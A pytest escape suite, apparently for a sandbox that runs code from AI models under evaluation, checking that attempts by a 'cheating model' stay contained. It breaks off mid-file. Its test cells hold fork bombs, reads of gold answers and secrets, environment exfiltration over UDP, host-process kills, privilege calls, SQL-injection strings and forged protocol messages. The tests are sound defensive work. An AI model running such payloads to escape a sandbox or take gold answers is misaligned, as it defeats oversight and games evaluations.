"""The escape suite of issue 14 at the kernel level: hostile code in a real ``Kernel`` (default settings, the
namespaces level) tries to get out, and each attempt must end contained.

Every test checks three things: the attempt failed (an error inside the kernel, output showing it failed, or the
episode-level end ``CodeResult.violation``), which kind of ending it was (error in the kernel, violation or
timeout), and that the worker (this test process) then runs a normal cell correctly, with a tool call.

Where an attempt would succeed without the sandbox, the test makes that so (a real listening socket, a real file
with a secret, a real host process of the kernel's outside uid), so that a contained result means something.
"""

from __future__ import annotations

import contextlib
import ctypes
import glob
import hashlib
import os
import platform
import socket
import sqlite3
import subprocess
import sys
import tempfile
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from helpers.paths import REPO

from undertow.env_core.errors import SandboxViolation
from undertow.env_core.sandbox import CodeResult, FunctionStub, Kernel, SandboxConfig, ToolReply, available_isolation

SECRET = "gold-answer-8c1f0e"  # what a cheating model would look for
STUBS = [
    FunctionStub("function_1", ["name"], "Scores of a player, by name."),
    FunctionStub("echo", ["value"], "Returns its argument."),
    FunctionStub("wait", ["seconds"], "Returns after the given time: a slow tool."),
]
NORMAL_CELL = "rows = function_1('alice')\nprint(rows, 6 * 7)"
NORMAL_OUTPUT = "[['alice', 7]] 42\n"


@pytest.fixture(scope="module", autouse=True)
def _needs_namespaces() -> None:
    found = available_isolation()
    if found.level != "namespaces":
        pytest.skip(f"this machine gives no namespaces: {found.detail}")


class Tools:
    """A tool implementation over a real SQLite database, opened read-write (as a family would) with every
    argument bound as a parameter. Records each call that reached the worker."""

    def __init__(self, db: Path) -> None:
        self.db = db
        self.calls: list[tuple[str, dict[str, Any]]] = []

    def __call__(self, name: str, arguments: dict[str, Any]) -> ToolReply:
        self.calls.append((name, arguments))
        if name == "function_1":
            with contextlib.closing(sqlite3.connect(self.db)) as conn:
                rows = conn.execute("SELECT name, score FROM t WHERE name = ?", (arguments.get("name"),)).fetchall()
            return ToolReply(ok=True, value=[list(row) for row in rows])
        if name == "echo":
            return ToolReply(ok=True, value=arguments.get("value"))
        if name == "wait":
            time.sleep(float(arguments["seconds"]))
            return ToolReply(ok=True)
        return ToolReply(ok=False, error=f"unknown tool {name}")


@pytest.fixture
def suite(tmp_path: Path) -> Path:
    """A built suite as it lies on disk: scenarios with gold answers, and the episode's database."""
    folder = tmp_path / "suites" / "demo"
    folder.mkdir(parents=True)
    (folder / "scenarios.jsonl").write_text(f'{{"id": 1, "gold": "{SECRET}"}}\n')
    with contextlib.closing(sqlite3.connect(folder / "db.sqlite")) as conn:
        conn.execute("CREATE TABLE t (name TEXT, score INTEGER)")
        conn.executemany("INSERT INTO t VALUES (?, ?)", [("alice", 7), ("bob", 3)])
        conn.commit()
    return folder


@pytest.fixture
def tools(suite: Path) -> Tools:
    return Tools(suite / "db.sqlite")


def open_kernel(tools: Tools, **options: Any) -> Kernel:
    """A kernel with the default isolation, checked from the host before any hostile code runs: were it not in
    its own namespaces, the attempts below (SIGKILL to every process, fork bombs) would hit this machine."""
    kernel = Kernel(STUBS, tools, **options)
    assert kernel.pid is not None
    for namespace in ("pid", "net", "mnt", "user"):
        assert os.readlink(f"/proc/{kernel.pid}/ns/{namespace}") != os.readlink(f"/proc/self/ns/{namespace}")
    with open(f"/proc/{kernel.pid}/status") as handle:
        uids = next(line for line in handle if line.startswith("Uid:")).split()[1:]
    assert "0" not in uids  # never root on the host, even for a root worker
    return kernel


@pytest.fixture
def kernel(tools: Tools) -> Iterator[Kernel]:
    with open_kernel(tools) as k:
        yield k


def runs_normally(kernel: Kernel, tools: Tools) -> None:
    """The worker is healthy: a normal cell calls a tool and prints the right result."""
    before = len(tools.calls)
    result = kernel.run(NORMAL_CELL)
    assert (result.error, result.violation, result.timed_out) == (None, None, False), result.error
    assert result.output == NORMAL_OUTPUT
    assert tools.calls[before:] == [("function_1", {"name": "alice"})]


def errored(result: CodeResult, exception: str) -> str:
    """An ending inside the kernel: the code raised ``exception``; no violation, no timeout. Returns the error."""
    assert result.violation is None and not result.timed_out, result.error
    assert result.error is not None and exception in result.error.splitlines()[-1], result.error
    return result.error


def violated(result: CodeResult, what: str) -> str:
    """An episode-level ending: the kernel was killed for a violation that mentions ``what``."""
    assert not result.timed_out
    assert result.violation is not None and what in result.violation, (result.violation, result.error)
    assert result.error is not None and result.error.startswith("SandboxViolation")
    return result.violation


def clean(result: CodeResult) -> str:
    assert (result.error, result.violation, result.timed_out) == (None, None, False), result.error
    return result.output


def pid_namespace(kernel: Kernel) -> str:
    assert kernel.pid is not None
    return os.readlink(f"/proc/{kernel.pid}/ns/pid")


def processes_in(namespace: str) -> list[int]:
    """Host PIDs of the processes in a PID namespace, as the host sees them (this test runs as root)."""
    found = []
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            with contextlib.suppress(OSError):
                if os.readlink(f"/proc/{entry}/ns/pid") == namespace:
                    found.append(int(entry))
    return found


def all_gone(namespace: str) -> bool:
    """No process of the namespace is left (polled briefly: the kernel reaps the namespace as its PID 1 exits)."""
    for _ in range(40):
        if not processes_in(namespace):
            return True
        time.sleep(0.05)
    return False


# -- reading what a cheating model wants: the suite, the database, the project, the worker


def test_suite_database_and_project_files_are_not_there(kernel: Kernel, tools: Tools, suite: Path) -> None:
    paths = [
        suite / "scenarios.jsonl",
        suite / "db.sqlite",
        suite,
        REPO / "README.md",
        REPO / "env_core" / "model.py",
        REPO,
        Path(sys.prefix),  # the worker's virtual environment
    ]
    shared = REPO.parent / "shared" / "data"
    if shared.exists():
        paths.append(shared)
    for path in paths:
        assert path.exists()  # on the host: without the sandbox every read below would work
    code = (
        "import os\n"
        f"for path in {[str(p) for p in paths]!r}:\n"
        "    try:\n"
        "        got = os.listdir(path) if os.path.isdir(path) else open(path, 'rb').read()\n"
        "        print(path, 'READ', got)\n"
        "    except OSError as exc:\n"
        "        print(path, type(exc).__name__)\n"
    )
    output = clean(kernel.run(code))
    assert output.splitlines() == [f"{p} FileNotFoundError" for p in paths]
    assert SECRET not in output
    # The suite through the tool channel's database: opening it directly fails as well.
    errored(kernel.run(f"import sqlite3\nsqlite3.connect('file:{suite / 'db.sqlite'}?mode=ro', uri=True)"), "Error")
    runs_normally(kernel, tools)


def test_the_worker_process_is_invisible(kernel: Kernel, tools: Tools) -> None:
    worker = os.getpid()
    code = (
        "import os\n"
        "print(os.getpid(), os.getppid())\n"
        f"for what in ('environ', 'cwd', 'cmdline', 'root', 'exe'):\n"
        "    try:\n"
        f"        path = '/proc/{worker}/' + what\n"
        "        print(what, os.readlink(path) if what in ('cwd', 'root', 'exe') else open(path, 'rb').read())\n"
        "    except OSError as exc:\n"
        "        print(what, type(exc).__name__)\n"
        "for what in ('environ', 'cwd'):\n"
        "    try:\n"
        "        path = f'/proc/{os.getppid()}/{what}'\n"
        "        print(path, os.readlink(path) if what == 'cwd' else open(path, 'rb').read())\n"
        "    except OSError as exc:\n"
        "        print(path, type(exc).__name__)\n"
        "print(sorted(int(p) for p in os.listdir('/proc') if p.isdigit()))\n"
    )
    assert clean(kernel.run(code)).splitlines() == [
        "1 0",  # PID 1 of its own namespace; its parent is outside it, so 0
        "environ FileNotFoundError",
        "cwd FileNotFoundError",
        "cmdline FileNotFoundError",
        "root FileNotFoundError",
        "exe FileNotFoundError",
        "/proc/0/environ FileNotFoundError",
        "/proc/0/cwd FileNotFoundError",
        "[1]",  # the kernel alone: the worker, its launcher and every other host process are not there
    ]
    runs_normally(kernel, tools)


def test_the_workers_environment_does_not_reach_the_kernel(tools: Tools, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("UNDERTOW_TEST_SECRET", SECRET)
    with open_kernel(tools) as kernel:  # started after the variable is set
        code = (
            "import os\n"
            "print(dict(os.environ))\n"
            "print(open('/proc/self/environ', 'rb').read())\n"
            "print(open('/proc/1/environ', 'rb').read())\n"
        )
        output = clean(kernel.run(code))
        assert "PATH" in output and "HOME=/tmp" in output  # the reads worked: the secret is just not there
        assert SECRET not in output and "UNDERTOW_TEST_SECRET" not in output
        runs_normally(kernel, tools)


def test_only_the_kernels_own_processes_are_listed(kernel: Kernel, tools: Tools) -> None:
    code = (
        "import os, time\n"
        "kids = []\n"
        "for _ in range(3):\n"
        "    pid = os.fork()\n"
        "    if pid == 0:\n"
        "        time.sleep(60)\n"
        "        os._exit(0)\n"
        "    kids.append(pid)\n"
        "print(sorted(int(p) for p in os.listdir('/proc') if p.isdigit()) == sorted([1, *kids]), len(kids))\n"
    )
    assert clean(kernel.run(code)) == "True 3\n"
    # The host sees the same four processes in the kernel's namespace, and nothing else is in it.
    assert len(processes_in(pid_namespace(kernel))) == 4
    runs_normally(kernel, tools)


# -- the network


@pytest.fixture
def listeners() -> Iterator[tuple[socket.socket, socket.socket]]:
    """A TCP listener and a UDP socket on 127.0.0.2, so that reaching them would work without the sandbox."""
    tcp = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    udp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tcp.bind(("127.0.0.2", 0))
    tcp.listen()
    udp.bind(("127.0.0.2", 0))
    for sock in (tcp, udp):
        sock.setblocking(False)
    try:
        yield tcp, udp
    finally:
        tcp.close()
        udp.close()


@pytest.mark.parametrize(
    ("kind", "address"),
    [
        ("tcp", "listener"),
        ("tcp", ("93.184.216.34", 80)),
        ("tcp", ("1.1.1.1", 53)),
        ("udp", "listener"),
        ("udp", ("1.1.1.1", 53)),
    ],
)
def test_no_network(
    kernel: Kernel,
    tools: Tools,
    listeners: tuple[socket.socket, socket.socket],
    kind: str,
    address: str | tuple[str, int],
) -> None:
    tcp, udp = listeners
    target = (tcp if kind == "tcp" else udp).getsockname() if address == "listener" else address
    if kind == "tcp":
        code = f"import socket\ns = socket.socket()\ns.settimeout(3)\ns.connect({tuple(target)!r})"
    else:
        code = (
            "import socket\n"
            "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
            f"s.sendto(open('/proc/self/environ', 'rb').read(), {tuple(target)!r})"
        )
    assert "Network is unreachable" in errored(kernel.run(code), "OSError")
    with pytest.raises(BlockingIOError):  # nothing reached the worker's sockets
        tcp.accept()
    with pytest.raises(BlockingIOError):
        udp.recv(65536)
    runs_normally(kernel, tools)


def test_no_abstract_unix_socket_of_the_host(kernel: Kernel, tools: Tools) -> None:
    # Abstract unix sockets belong to a network namespace: one the worker listens on is not there for the kernel.
    name = f"\0undertow-escape-{uuid.uuid4().hex}"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as server:
        server.bind(name)
        server.listen()
        server.setblocking(False)
        code = f"import socket\nsocket.socket(socket.AF_UNIX).connect({name!r})"
        errored(kernel.run(code), "ConnectionRefusedError")
        with pytest.raises(BlockingIOError):
            server.accept()
    runs_normally(kernel, tools)


# -- processes: fork bombs, leaving the group, outliving the episode

FORK_BOMBS = {
    "os.fork": (
        "import os, time\n"
        "n = 0\n"
        "try:\n"
        "    while True:\n"
        "        if os.fork() == 0:\n"
        "            os.setsid()\n"
        "            time.sleep(600)\n"
        "            os._exit(0)\n"
        "        n += 1\n"
        "except OSError as exc:\n"
        "    print(type(exc).__name__, exc.errno, n)\n"
    ),
    "ctypes fork": (
        "import ctypes, time\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "n = 0\n"
        "while True:\n"
        "    pid = libc.fork()\n"
        "    if pid == 0:\n"
        "        libc.setsid()\n"
        "        while True:\n"
        "            time.sleep(600)\n"
        "    if pid < 0:\n"
        "        print('BlockingIOError', ctypes.get_errno(), n)\n"
        "        break\n"
        "    n += 1\n"
    ),
    # _posixsubprocess.fork_exec, with setsid (start_new_session), running a shell
    "subprocess": (
        "import subprocess\n"
        "started = []\n"
        "try:\n"
        "    while True:\n"
        "        started.append(subprocess.Popen(['/bin/sh', '-c', 'exec sleep 600'], start_new_session=True))\n"
        "except OSError as exc:\n"
        "    print(type(exc).__name__, exc.errno, len(started))\n"
    ),
}


@pytest.mark.parametrize("how", list(FORK_BOMBS))
def test_fork_bomb_is_bounded_and_dies_with_the_kernel(tools: Tools, how: str) -> None:
    kernel = open_kernel(tools)
    try:
        namespace = pid_namespace(kernel)
        output = clean(kernel.run(FORK_BOMBS[how]))
        name, code, started = output.splitlines()[-1].split()
        assert (name, int(code)) == ("BlockingIOError", 11)  # EAGAIN: the process limit was reached
        assert 1 < int(started) < kernel.sandbox.processes
        count = len(processes_in(namespace))
        assert int(started) < count <= kernel.sandbox.processes  # as the host counts them
        runs_normally(kernel, tools)  # a tool call needs no new process: the kernel still works
    finally:
        kernel.close()
    # Every one of them (each in its own session) is gone with the kernel.
    assert all_gone(namespace)
    with open_kernel(tools) as fresh:
        runs_normally(fresh, tools)


def test_timeout_kills_children_that_left_the_group(tools: Tools) -> None:
    with open_kernel(tools, step_timeout_s=1.0) as kernel:
        namespace = pid_namespace(kernel)
        code = (
            "import os, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"  # a grandchild, orphaned at once
            "        time.sleep(600)\n"
            "    os._exit(0)\n"
            "while True:\n"
            "    pass\n"
        )
        result = kernel.run(code)
        assert result.timed_out and result.violation is None
        assert result.error is not None and result.error.startswith("TimeoutError")
        assert kernel.pid is None  # killed, restarted on the next run
        assert all_gone(namespace)
        runs_normally(kernel, tools)


# -- memory


def test_one_huge_allocation_fails_inside(kernel: Kernel, tools: Tools) -> None:
    pid = kernel.pid
    errored(kernel.run("x = bytearray(4 * 1024**3)"), "MemoryError")
    assert kernel.pid == pid  # the same kernel, alive
    runs_normally(kernel, tools)


def hoarding_children(delay_s: float = 0.0) -> str:
    """Code that forks four children, each holding 100 MB (after ``delay_s``) until killed: well under a child's own
    address-space limit, over memory_mb=256 together."""
    return (
        "import os, time\n"
        "for _ in range(4):\n"
        "    if os.fork() == 0:\n"
        + (f"        time.sleep({delay_s})\n" if delay_s else "")
        + "        block = b'x' * 100_000_000\n"
        "        time.sleep(600)\n"
    )


def test_many_children_over_the_memory_limit_together(tools: Tools) -> None:
    with open_kernel(tools, memory_mb=256) as kernel:
        namespace = pid_namespace(kernel)
        result = kernel.run(hoarding_children() + "time.sleep(8)\nprint('not stopped')\n")
        violated(result, "memory")
        assert "not stopped" not in result.output
        assert result.duration_ms < 5000  # caught while it ran, long before the timeout
        assert all_gone(namespace)
        runs_normally(kernel, tools)


def test_memory_taken_between_cells_is_caught_at_the_next_cell(tools: Tools) -> None:
    # Children that allocate after their cell ended, while the worker waits for the model.
    with open_kernel(tools, memory_mb=256) as kernel:
        namespace = pid_namespace(kernel)
        assert clean(kernel.run(hoarding_children(delay_s=0.2))) == ""
        time.sleep(1.5)
        violated(kernel.run("print('next cell')"), "memory")
        assert all_gone(namespace)
        runs_normally(kernel, tools)


# -- host resources beyond the rlimits: per-user counters, memory outside every process, the keyrings

# The numbers of the calls below that libc has no function for, on x86-64 and ARM64
CALLS = {"x86_64": (240, 248, 249, 250), "aarch64": (180, 217, 218, 219)}
MQ_OPEN, ADD_KEY, REQUEST_KEY, KEYCTL = CALLS.get(platform.machine(), (0, 0, 0, 0))
needs_filter = pytest.mark.skipif(not MQ_OPEN, reason=f"no seccomp filter on {platform.machine()}")
LIBC = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"


def host_inotify() -> int:
    """Open and close an inotify instance in this process (the worker's uid): its errno, 0 when it worked."""
    libc = ctypes.CDLL(None, use_errno=True)
    fd = libc.inotify_init1(0)
    if fd < 0:
        return ctypes.get_errno()
    os.close(fd)
    return 0


@needs_filter
def test_inotify_instances_cannot_exhaust_the_workers_limit(kernel: Kernel, tools: Tools) -> None:
    # Counted against the owner of the kernel's user namespace (the worker's uid): 128 held in a kernel made the
    # worker's own inotify_init1 fail with EMFILE
    assert host_inotify() == 0
    code = LIBC + (
        "held = []\n"
        "while len(held) < 1000 and (fd := libc.inotify_init1(0)) >= 0:\n"
        "    held.append(fd)\n"
        "print(len(held), ctypes.get_errno(), libc.fanotify_init(0, 0), ctypes.get_errno())\n"
    )
    assert clean(kernel.run(code)) == "0 1 -1 1\n"  # EPERM, from the first
    assert host_inotify() == 0
    runs_normally(kernel, tools)


@needs_filter
def test_memory_outside_every_process_cannot_be_taken(kernel: Kernel, tools: Tools) -> None:
    # Each would hold memory that no process's resident set shows, beyond /tmp's size: 2.5 GiB in memfds or in a
    # tmpfs of a nested user and mount namespace raised the host's shared memory while the kernel's stayed at 31 MB
    code = LIBC + (
        "try:\n"
        "    for _ in range(160):\n"
        "        fd = os.memfd_create('hoard')\n"
        "        os.ftruncate(fd, 16 << 20)\n"
        "        os.write(fd, b'x' * (16 << 20))\n"
        "except OSError as exc:\n"
        "    print('memfd', type(exc).__name__)\n"
        "for call in ('shmget(0, 256 << 20, 0o1600)', 'msgget(0, 0o1600)', 'semget(0, 32000, 0o1600)',\n"
        f"             'syscall({MQ_OPEN}, b\"hoard\", 0o102, 0o600, None)', 'unshare(0x10020000)'):\n"
        "    print(eval('libc.' + call), ctypes.get_errno())\n"  # IPC_PRIVATE, IPC_CREAT; CLONE_NEWUSER | NEWNS
        "print(os.path.exists('/dev/shm'))\n"
    )
    assert clean(kernel.run(code)) == "memfd PermissionError\n" + "-1 1\n" * 5 + "False\n"
    runs_normally(kernel, tools)


@needs_filter
def test_kernels_share_no_keyring(tools: Tools) -> None:
    # Two kernels of the same outside uid passed a key with opened permissions from one to the other
    name = f"undertow-{uuid.uuid4().hex}".encode()
    with open_kernel(tools) as writer, open_kernel(tools) as reader:
        code = LIBC + (  # into the user keyring (-4), then KEYCTL_SETPERM (5) to everyone
            f"key = libc.syscall({ADD_KEY}, b'user', {name!r}, {SECRET.encode()!r}, {len(SECRET)}, -4)\n"
            "print(key, ctypes.get_errno())\n"
            f"print(libc.syscall({KEYCTL}, 5, key, 0x3F3F3F3F), ctypes.get_errno())\n"
        )
        assert clean(writer.run(code)) == "-1 1\n-1 1\n"
        found = LIBC + (  # then KEYCTL_READ (11)
            f"key = libc.syscall({REQUEST_KEY}, b'user', {name!r}, None, 0)\n"
            "buffer = ctypes.create_string_buffer(100)\n"
            f"print(key, ctypes.get_errno(), libc.syscall({KEYCTL}, 11, key, buffer, 100), buffer.value)\n"
        )
        assert clean(reader.run(found)) == "-1 1 -1 b''\n"
        runs_normally(reader, tools)


# -- time and output


def test_infinite_loop_times_out_and_state_is_lost(tools: Tools) -> None:
    with open_kernel(tools, step_timeout_s=1.0) as kernel:
        assert clean(kernel.run("x = 41")) == ""
        result = kernel.run("while True:\n    x += 1")
        assert result.timed_out and result.violation is None
        assert result.error is not None and result.error.startswith("TimeoutError")
        assert 1000 <= result.duration_ms < 6000
        errored(kernel.run("print(x)"), "NameError")  # a fresh kernel: the variables are gone
        runs_normally(kernel, tools)


def test_tool_time_counts_toward_the_cells_timeout(tools: Tools) -> None:
    # A tool cannot be interrupted, but the cell ends as soon as the call that crossed the deadline returns, and no
    # further call starts
    with open_kernel(tools, step_timeout_s=0.5) as kernel:
        result = kernel.run("for _ in range(5):\n    wait(0.2)\nprint('not reached')")
        assert result.timed_out and result.violation is None
        assert result.error is not None and result.error.startswith("TimeoutError")
        assert "not reached" not in result.output
        assert [name for name, _ in tools.calls] == ["wait"] * 3  # the third crossed the deadline
        assert 600 <= result.duration_ms < 1100
        assert kernel.pid is None
        runs_normally(kernel, tools)


@pytest.mark.parametrize(
    ("code", "most"),
    [
        ("print('x' * 100_000_000)", 100_000_001),  # through sys.stdout: counted, not written
        ("import os\nos.write(1, b'x' * 100_000_000)", 16 * 1024 * 1024),  # fd 1 directly: the file-size limit
    ],
)
def test_huge_output_is_truncated(kernel: Kernel, tools: Tools, code: str, most: int) -> None:
    pid = kernel.pid
    output = clean(kernel.run(code))
    shown, note = output.rsplit("\n", 1)
    assert shown == "x" * kernel.max_output
    total = int(note.split(" of ")[1].split()[0])
    assert note == f"[output truncated: showing the first {kernel.max_output} of {total} characters]"
    assert kernel.max_output < total <= most
    assert kernel.pid == pid
    runs_normally(kernel, tools)


# -- signals


@pytest.fixture
def victim() -> Iterator[subprocess.Popen[bytes]]:
    """A host process running as the kernel's outside uid (nobody): without a PID namespace the kernel could
    signal it, as it could any process of its user."""
    proc = subprocess.Popen(["sleep", "60"], user=65534, group=65534)
    try:
        yield proc
    finally:
        proc.kill()
        proc.wait()


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("os.kill(VICTIM, signal.SIGKILL)", "ProcessLookupError"),
        ("os.kill(WORKER, signal.SIGKILL)", "ProcessLookupError"),
        ("os.killpg(WORKER, signal.SIGKILL)", "ProcessLookupError"),
        ("os.kill(-1, signal.SIGKILL)", "ProcessLookupError"),  # all it may signal: none but itself in its namespace
        # getppid() is 0: kill(0) signals its own process group, which PID 1 of a namespace shrugs off
        ("os.kill(os.getppid(), signal.SIGKILL)", "own group"),
        (
            "libc = ctypes.CDLL(None, use_errno=True)\n"
            "assert libc.kill(WORKER, 9) == -1 and libc.kill(VICTIM, 9) == -1\n"
            "raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))",
            "ProcessLookupError",
        ),
        (
            "pid = os.fork()\n"
            "if pid == 0:\n"
            "    os.kill(1, signal.SIGKILL)\n"  # PID 1 of the namespace cannot be killed from inside it
            "    os._exit(0)\n"
            "os.waitpid(pid, 0)",
            "done",
        ),
    ],
)
def test_signals_reach_nothing_outside(
    kernel: Kernel, tools: Tools, victim: subprocess.Popen[bytes], code: str, expected: str
) -> None:
    pid = kernel.pid
    prelude = f"import ctypes, os, signal\nVICTIM, WORKER = {victim.pid}, {os.getpid()}\n"
    result = kernel.run(prelude + code + "\nprint('done')")
    if expected == "own group" and os.geteuid() != 0 and result.error is not None:
        # A worker that is not root: the group also holds the kernel's launcher, of the same uid outside, and
        # the kernel ends with it. Its own episode's loss; nothing outside is reached.
        errored(result, "KernelDied")
    else:
        if expected in ("done", "own group"):
            assert clean(result) == "done\n"
        else:
            errored(result, expected)
        assert kernel.pid == pid  # the kernel itself survived too
    assert victim.poll() is None
    runs_normally(kernel, tools)


def test_a_kernel_cannot_signal_another_kernel(tools: Tools) -> None:
    with open_kernel(tools) as other, open_kernel(tools) as kernel:
        assert clean(other.run("x = 'still here'")) == ""
        errored(kernel.run(f"import os\nos.kill({other.pid}, 9)"), "ProcessLookupError")
        assert clean(other.run("print(x)")) == "still here\n"
        runs_normally(kernel, tools)


# -- ctypes


@pytest.mark.parametrize(
    ("code", "expected"),
    [
        ("print(libc.setuid(0), os.getuid())", "-1 1000\n"),  # uid 0 is not even mapped (EINVAL)
        ("print(libc.mount(b'proc', b'/tmp', b'proc', 0, None), ctypes.get_errno())", "-1 1\n"),
        ("print(libc.chroot(b'/tmp'), ctypes.get_errno())", "-1 1\n"),
        (f"print(libc.ptrace(16, {os.getpid()}, None, None), ctypes.get_errno())", "-1 3\n"),  # ATTACH: ESRCH
    ],
    ids=["setuid", "mount", "chroot", "ptrace-attach-worker"],  # the same in every xdist worker (no PID)
)
def test_ctypes_calls_get_no_privilege(kernel: Kernel, tools: Tools, code: str, expected: str) -> None:
    prelude = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
    assert clean(kernel.run(prelude + code)) == expected
    runs_normally(kernel, tools)


def test_a_crash_kills_only_the_kernel(kernel: Kernel, tools: Tools) -> None:
    pid = kernel.pid
    error = errored(kernel.run("import ctypes\nctypes.string_at(0)"), "KernelDied")
    assert "SIGSEGV" in error
    runs_normally(kernel, tools)
    assert kernel.pid not in (None, pid)  # a fresh kernel


# -- the project's own code


@pytest.mark.parametrize(
    "module",
    [
        "undertow.scoring",
        "undertow.env_core.model",
        "undertow.env_core.errors",
        "undertow.env_core.sandbox.host",
        "undertow.workers",
        "undertow.cluster",
        "scoring",  # the repository's folders by their bare names, as a stale path would expose them
        "env_core",
        "pydantic",
    ],
)
def test_the_project_cannot_be_imported(kernel: Kernel, tools: Tools, module: str) -> None:
    errored(kernel.run(f"import {module}"), "ModuleNotFoundError")
    runs_normally(kernel, tools)


def test_sys_path_holds_no_project_path(kernel: Kernel) -> None:
    paths = clean(kernel.run("import sys\nprint('\\n'.join(sys.path))")).split()
    assert paths
    for path in paths:
        assert not path.startswith((str(REPO), str(REPO.parent), sys.prefix)), path


# -- writing


@pytest.mark.parametrize(
    ("folder", "expected"),
    [
        ("/etc", "Read-only file system"),
        ("/usr", "Read-only file system"),
        ("/", "Read-only file system"),
        ("/kernel/undertow/env_core/sandbox", "Read-only file system"),
        ("/dev", "Read-only file system"),
        ("/proc", "No such file or directory"),  # proc makes no files
    ],
)
def test_the_system_is_read_only(kernel: Kernel, tools: Tools, folder: str, expected: str) -> None:
    name = f"undertow-escape-{uuid.uuid4().hex}.py"
    path = os.path.join(folder, name)
    assert expected in errored(kernel.run(f"open({path!r}, 'w').write('pwned')"), "Error")
    assert not os.path.exists(path)  # nor on the host
    runs_normally(kernel, tools)


def test_the_run_store_and_suite_are_not_writable(kernel: Kernel, tools: Tools, suite: Path, tmp_path: Path) -> None:
    store = tmp_path / "runs" / "r1" / "shards"
    store.mkdir(parents=True)
    before = {p: p.read_bytes() for p in suite.iterdir()}
    targets = [store / "shard-0.jsonl", suite / "scenarios.jsonl", suite / "new.jsonl"]
    for target in targets:
        errored(kernel.run(f"open({str(target)!r}, 'w').write('forged')"), "FileNotFoundError")
    errored(kernel.run(f"import shutil\nshutil.rmtree({str(suite)!r})"), "FileNotFoundError")
    assert list(store.iterdir()) == []
    assert {p: p.read_bytes() for p in suite.iterdir()} == before
    runs_normally(kernel, tools)


def test_tmp_is_the_kernels_own(kernel: Kernel, tools: Tools) -> None:
    name = f"undertow-escape-{uuid.uuid4().hex}"
    assert clean(kernel.run(f"open('/tmp/{name}', 'w').write('mine')\nprint(open('/tmp/{name}').read())")) == "mine\n"
    assert not os.path.exists(os.path.join("/tmp", name))  # not the host's /tmp
    assert not os.path.exists(os.path.join(tempfile.gettempdir(), name))
    runs_normally(kernel, tools)


# -- the database


def test_sql_injection_through_a_tool_argument_is_inert(kernel: Kernel, tools: Tools, suite: Path) -> None:
    db = suite / "db.sqlite"
    digest = hashlib.sha256(db.read_bytes()).hexdigest()
    assert clean(kernel.run('print(function_1("\'; DROP TABLE t; --"))')) == "[]\n"
    assert clean(kernel.run("print(function_1(\"x' OR '1'='1\"))")) == "[]\n"
    assert tools.calls[-1] == ("function_1", {"name": "x' OR '1'='1"})
    errored(kernel.run(f"open({str(db)!r}, 'r+b').write(b'corrupt')"), "FileNotFoundError")
    with contextlib.closing(sqlite3.connect(db)) as conn:
        assert conn.execute("SELECT count(*) FROM t").fetchone() == (2,)
    assert hashlib.sha256(db.read_bytes()).hexdigest() == digest
    runs_normally(kernel, tools)


# -- the protocol channel

# The tool stubs close over the kernel's session, which holds the channel to the worker.
SESSION = "session = dict(zip(echo.__code__.co_freevars, [c.cell_contents for c in echo.__closure__]))['session']\n"


def forge(line: bytes) -> str:
    return SESSION + f"session.outbound.write({line!r})\nsession.outbound.flush()\n"


def deep_call(levels: int) -> bytes:
    return b'{"op": "call", "name": "echo", "arguments": {"value": ' + b"[" * levels + b"]" * levels + b"}}\n"


@pytest.mark.parametrize(
    ("line", "what"),
    [
        (b"not json\n", "protocol: a message from the kernel that is not JSON"),
        (b'{"op": "done", "error": null,\n', "protocol: a message from the kernel that is not JSON"),
        (b'{"op": "done", "error": "\xff\xfe"}\n', "protocol: a message from the kernel that is not UTF-8"),
        (b'"FORGED"\n', "protocol: a message from the kernel that is not a JSON object"),
        (deep_call(100_000), "protocol: a message from the kernel nested deeper than 100 levels"),  # for json itself
        (deep_call(150), "protocol: a message from the kernel nested deeper than 100 levels"),  # decodable, too deep
        (b'{"op": "reply", "ok": true, "value": "FORGED"}\n', "protocol: an unexpected message"),
        (b'{"op": "call", "name": 5, "arguments": "FORGED"}\n', "protocol: a malformed tool call"),
        (b"x" * (2 << 20), "message size"),  # no newline: over sandbox.message_kb
    ],
    ids=["not-json", "cut", "not-utf8", "not-an-object", "nested-100000", "nested-150", "reply", "call", "2-MiB"],
)
def test_forged_messages_end_the_episode(kernel: Kernel, tools: Tools, line: bytes, what: str) -> None:
    result = kernel.run(forge(line) + "import time\ntime.sleep(5)")
    violated(result, what)
    assert "FORGED" not in result.output
    assert result.duration_ms < 4000
    assert len(tools.calls) == 0
    runs_normally(kernel, tools)


def test_a_forged_done_shows_no_forged_output(kernel: Kernel, tools: Tools) -> None:
    # Without the number the worker gave the cell, a "done" is refused at once
    done = b'{"op": "done", "error": null, "output": "FORGED", "printed": 0}\n'
    result = kernel.run(forge(done) + "import time\ntime.sleep(5)")
    violated(result, "protocol")
    assert "FORGED" not in result.output and result.duration_ms < 4000
    runs_normally(kernel, tools)


# The cell's token can be dug out of the kernel's own frames
DIG_CELL_TOKEN = (
    "import json, sys\n"
    "frames = [sys._getframe(i) for i in range(1, 8)]\n"
    "cell = next(f.f_locals['message']['cell'] for f in frames if 'message' in f.f_locals)\n"
)


def test_a_forged_done_with_the_cells_token_is_caught_by_the_real_one(kernel: Kernel, tools: Tools) -> None:
    # The forged "done" then ends the cell early, and the real one, waiting on the channel when the next cell
    # starts, is a violation there
    done = "json.dumps({'op': 'done', 'error': None, 'output': 'FORGED', 'cell': cell}) + '\\n'"
    forged = SESSION + DIG_CELL_TOKEN + f"session.outbound.write(({done}).encode())\nsession.outbound.flush()\n"
    result = kernel.run(forged + "import time\ntime.sleep(0.1)\nprint('after the forged done')")
    assert "FORGED" not in result.output and result.error is None
    time.sleep(0.4)  # the real "done" of that cell is now waiting on the channel, outside any request
    late = kernel.run("print(1)")
    violated(late, "outside any request")
    assert late.output == ""  # what the forging cell printed after its forged end is not shown as this cell's
    runs_normally(kernel, tools)


def next_cell_forger(dig: bool) -> str:
